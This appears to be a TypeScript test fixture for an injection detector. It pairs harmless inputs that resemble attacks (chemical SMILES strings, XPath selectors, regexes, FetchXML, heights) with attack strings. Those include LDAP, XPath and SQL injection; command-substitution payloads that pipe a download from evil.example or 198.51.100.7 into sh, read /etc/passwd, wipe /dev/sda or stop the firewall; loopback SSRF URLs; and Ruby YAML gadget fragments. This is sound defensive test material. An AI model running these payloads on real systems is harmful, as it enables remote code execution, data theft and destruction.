import { asked, filled, type HonestKinds, sent, testKinds } from './honest-kinds.ts'

const FETCH_XML =
  '<fetch version="1.0" count="5"><entity name="opportunity"><filter type="and"><filter type="or"><condition attribute="statecode" operator="eq" value="0"/></filter></filter></entity></fetch>'

/** Notations of other trades that hold the signs of an attack, and what stays an attack beside them. */
const KINDS: HonestKinds = {
  'structures of molecules, whose brackets each close their own': {
    honest: [
      asked('/compound', { smiles: 'CC(=CCCC(C)(C=C)O)C' }),
      asked('/compound', { q: 'CC(C)(C=O)C' }),
      asked('/rest/smiles/CC(C)(C=C)O/property', {}),
      sent({ structure: 'CC12CCC(=O)C=C1CCC1C2CCC2(C)C(O)(C#C)CCC12' }),
      filled({ structure: 'C(C(=O)O)(C(=O)O)=C' }),
      sent({ rows: ['CC(C)(C=O)C', 'CC(C)(C=C)(C=O)C'] }),
    ],
    attacks: [
      asked('/s', { user: 'x)(cn=*' }),
      asked('/s', { user: 'CC(C)(C=O)C)(uid=*' }),
      asked('/s', { user: '(x))(uid=*' }),
      asked('/s', { user: 'admin)(&)' }),
      asked('/s', { user: '*)(uid=*))(|(uid=*' }),
      filled({ user: `${'(a)(c=b)'.repeat(40)})(uid=*` }),
      filled({ user: "O'Neil)(cn=*" }),
      sent({ user: '*)(objectClass=*' }),
    ],
  },
  'a selector with the predicates that it opened itself': {
    honest: [
      sent({ selector: '//div[@class="a"]/text()' }),
      filled({ selector: "//h1[@id='title']/text()" }),
      sent({ path: '//a[@id] | //b[@id]' }),
    ],
    attacks: [
      asked('/s', { name: "x']/text()" }),
      asked('/s', { name: '1] | //user[1' }),
      asked('/s', { name: "x[']/text()" }),
      asked('/s', { name: "'] | //user/*[contains(*,'" }),
    ],
  },
  'the words among which an expression chooses': {
    honest: [
      asked('/search', { pattern: '(png|jpg|gif|zip|tar|gz)$' }),
      sent({ pattern: '\\.(css|js|env|sh)$' }),
      filled({ pattern: '^/(?:docs|man|cat)/.*' }),
      sent({ only: 'feature/(id|ls|pwd)-.*' }),
    ],
    attacks: [
      asked('/s', { v: 'x$(a|sh)' }),
      asked('/s', { v: 'x;(a|sh)' }),
      asked('/s', { v: 'x|id' }),
      asked('/s', { v: 'a(b|cat /etc/passwd)' }),
      asked('/s', { v: '(curl http://evil.example/x|sh)' }),
      asked('/s', { v: 'x`(a|sh)`' }),
    ],
  },
  'programs that people name, and tell each other to run': {
    honest: [
      asked('/search', { q: '`systemctl stop nginx` or `chmod 600 a.key`' }),
      filled({ comment: 'Please run `chmod 755 deploy.sh`, then `sudo systemctl restart nginx`.' }),
      sent({ rule: 'objs := $(patsubst %.c,%.o,$(wildcard *.c))' }),
      sent({ note: 'I used `/bin/busybox wget http://a.example/x` to get it.' }),
      sent({ columns: 'time;id', order: 'start;time' }),
      asked('/files', { path: '/tmp/report.csv' }),
      sent({ script: "$(document).ready(() => $('#a').hide())" }),
    ],
    attacks: [
      ...['$', 'x$'].flatMap(start =>
        [
          '/bin/busybox wget -g 198.51.100.7 -l /tmp/x',
          'chmod 777 /tmp/x',
          'openssl s_client -connect 198.51.100.7:443',
          'systemctl stop firewalld',
          '/tmp/x',
          '/dev/shm/.x -d',
          'dd if=/dev/zero of=/dev/sda',
        ].flatMap(command => [
          asked('/s', { q: `${start}(${command})` }),
          sent({ to: `${start}(${command})` }),
        ]),
      ),
      ...['sudo id', 'nohup id', 'timeout 5 id', '/usr/bin/env whoami', 'busybox id'].flatMap(command => [
        asked('/s', { q: `x;${command}` }),
        sent({ to: `x|${command}` }),
      ]),
      asked('/s', { q: '`/bin/busybox wget http://198.51.100.7/x -O /tmp/x`' }),
      asked('/s', { q: 'x`openssl s_client -connect 198.51.100.7:443`' }),
      asked('/s', { q: ';ftpget 198.51.100.7 x' }),
    ],
  },
  'queries of Dynamics, and other markup whose attributes are operators': {
    honest: [FETCH_XML, FETCH_XML.replaceAll('"', "'")].flatMap(query => [
      asked('/api/data/v9.0/opportunities', { fetchXml: query }),
      sent({ fetchXml: query }),
      filled({ note: `Our query is ${query}` }),
    ]),
    attacks: [
      asked('/s', { v: '1<a b="or">1' }),
      asked('/s', { v: "1<a b='or'>1" }),
      asked('/s', { v: '<a b="or"1' }),
      asked('/s', { v: '<a b="or">" or "1"="1' }),
      asked('/s', { v: '1="or">1' }),
      asked('/s', { v: `${FETCH_XML}" or 1=1-- -` }),
      sent({ fetchXml: FETCH_XML.replace('"or"', '"or" or "a"="a"') }),
      filled({ v: `<filter type='or'>' or '1'='1` }),
    ],
  },
  'heights, in feet and inches': {
    honest: [
      asked('/search', { q: `5' 11" or 6' 2"` }),
      sent({ note: `5'11" or 6'2", please` }),
      filled({ note: `a 2' 6" or 3' 4" board` }),
    ],
    attacks: [
      asked('/s', { v: `5" or 6=6 --` }),
      asked('/s', { v: `1' or 6'2'='6'2` }),
      asked('/s', { v: `5" or "6"="6` }),
      asked('/s', { v: `5' 11" or 1=1 #` }),
    ],
  },
  'places on a map': {
    honest: [
      asked('/places/4G3Q33C9+QX/photos', {}),
      asked('/maps', { code: '849VCWC8+QX' }),
      asked('/maps', { path: 'mfp_I__vpAYBO@K@[@YEe@CsAEc@Cs`w|w`A' }),
      asked('/maps', { path: 'enc:_p~iF~ps|U_ulLnnqC_mqNvxq`@|w`@' }),
      sent({ points: 'yzoc`w|FzynhVq}@n}@o}@nzD' }),
      asked('/maps', { path: 'Ue{x@~ZxdnhE@ayzDHd?|~{VEihKud\\DUqmcPEnemmgd`idytp\\Q~`C{' }),
      asked('/maps', { path: 'L{dR?mMzAb_}HdIRmRCJjmSMMN_~GHmb@{Ok`X[rnOuW{SJx[MpSjF' }),
      sent({ hash: '$argon2id$v=19$m=65536,t=3,p=4$8tC4zK6OlurkUWeVt0n+AA$iFs7q6C88c4HG/9OGjyJXivHGmZtZZL' }),
    ],
    attacks: [
      asked('/s', { v: '; w' }),
      asked('/s', { v: 'qx/id/' }),
      asked('/s', { v: '#{`id`}' }),
      asked('/s', { v: 'cat$IFS/etc/x' }),
      asked('/s', { v: 'x = qx{id}' }),
      asked('/s', { v: 'a`id`' }),
    ],
  },
  'what Firefox and mail services send': {
    honest: [
      {
        ...asked('/', {}),
        headers: ['accept-language', 'de-DE,de;q=0.7,chrome://global/locale/intl.properties;q=0.3'],
      },
      filled({
        mandrill_events: JSON.stringify([
          {
            msg: {
              raw_msg: 'From: a@b.example\nSubject: x\nContent-Type: multipart/mixed; boundary="b"\n\n--b',
            },
          },
        ]),
      }),
      sent({ code: 'x = chr(13) + chr(10)' }),
      sent({ readme: "It says printf '\\x1b[31mred' or echo -e '\\xe2\\x9c\\x93 done'" }),
    ],
    attacks: [
      { ...asked('/', {}), headers: ['accept-language', 'de,/etc/passwd'] },
      { ...asked('/', {}), headers: ['accept-language', 'chrome://global/locale/intl.properties/../x'] },
      filled({ subject: 'x\nContent-Type: multipart/mixed; boundary="b"' }),
      sent({ spider: ';`id`' }),
      sent({ name: '|`whoami`' }),
      sent({ script: "def c='id';def res=c.execute().text;res" }),
      asked('/q', { key: ';system "touch /tmp/x" "' }),
      filled({ cmd: 'bg_system echo -en \\x7f\\x45\\x4c\\x46\\x01>>/tmp/dUqTz' }),
      asked('/s', { uid: ',chr(97)) or 1: print chr(121)+chr(101)' }),
    ],
  },
  'documents of ColdFusion and Ruby, and commands that are substituted': {
    honest: [
      filled({
        packet:
          "<wddxPacket version='1.0'><header/><data><struct><var name='a'/></struct></data></wddxPacket>",
      }),
      sent({ steps: [{ run: 'VERSION=$(cat VERSION)' }] }),
    ],
    attacks: [
      sent({
        mails: '\n---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n',
      }),
      filled({
        packet:
          "<wddxPacket version='1.0'><header/><data><struct type='aa.b.Ca'></struct></data></wddxPacket>",
      }),
      filled({ brightness: '$(echo 2ZqLk81xPvTq 2>&1)' }),
      asked('/s', { v: '$(cut -c1 x)' }),
      asked('/t', { transport: "|| (echo '[S]'; id; echo '[E]')#;" }),
      sent({ transport: "x; { echo 'a' | id" }),
    ],
  },
  'years and versions where an address could stand': {
    honest: [
      sent({ note: 'see url:/2024/05/report.pdf' }),
      filled({ path: '//2024/05/12/post' }),
      sent({ target: 'git:/123/abc', docs: 'url:/1.5/docs/intro' }),
    ],
    attacks: [
      sent({ callback: 'http://2130706433/' }),
      sent({ callback: 'http://127.1/' }),
      asked('/s', { next: '//2130706433/x' }),
      asked('/s', { next: 'url:/10.1/x' }),
      sent({ callback: 'http://0x7f.1/' }),
    ],
  },
  'a sentence that goes on with the name of a program': {
    honest: [
      sent({ text: 'fixed; curl now follows redirects' }),
      sent({ message: 'Done; ssh is still open to the office, grep works again.' }),
      filled({ comment: 'Sorry; tar is not what we use' }),
      asked('/search', { q: 'C++; gcc was first' }),
      sent({ text: "Updated; nmap doesn't see it any more - good" }),
      sent({ text: 'required; grep simply needs to request the module during configuration.' }),
      sent({ text: 'behoben; curl is für alle da' }),
    ],
    attacks: [
      sent({ host: '127.0.0.1; curl http://evil.example' }),
      asked('/s', { v: 'x; curl is evil.example' }),
      asked('/s', { v: 'x; curl the http://evil.example/' }),
      asked('/s', { v: 'x; wget is -O /tmp/x' }),
      asked('/s', { v: 'x; bash is; cat /etc/passwd' }),
      asked('/s', { v: 'x; curl is now $HOME' }),
      asked('/s', { v: 'x; nc is 198.51.100.7 4444' }),
      // What runs or removes what it is given needs no more than the name of a file.
      ...[
        'sh a',
        'bash it',
        'crontab a',
        'ansible-playbook a',
        'sh a file that was here',
        'zsh is it',
        'curl a',
      ].map(command => asked('/s', { v: `x;${command}` })),
      asked('/s', { v: 'x; shutdown now' }),
      asked('/s', { v: 'x; reboot and more' }),
      asked('/s', { v: `x; curl is ${'so '.repeat(200)} http://evil.example/` }),
      asked('/s', { v: `x; curl is ${'so '.repeat(20)} http://evil.example/` }),
    ],
  },
}

testKinds(KINDS)
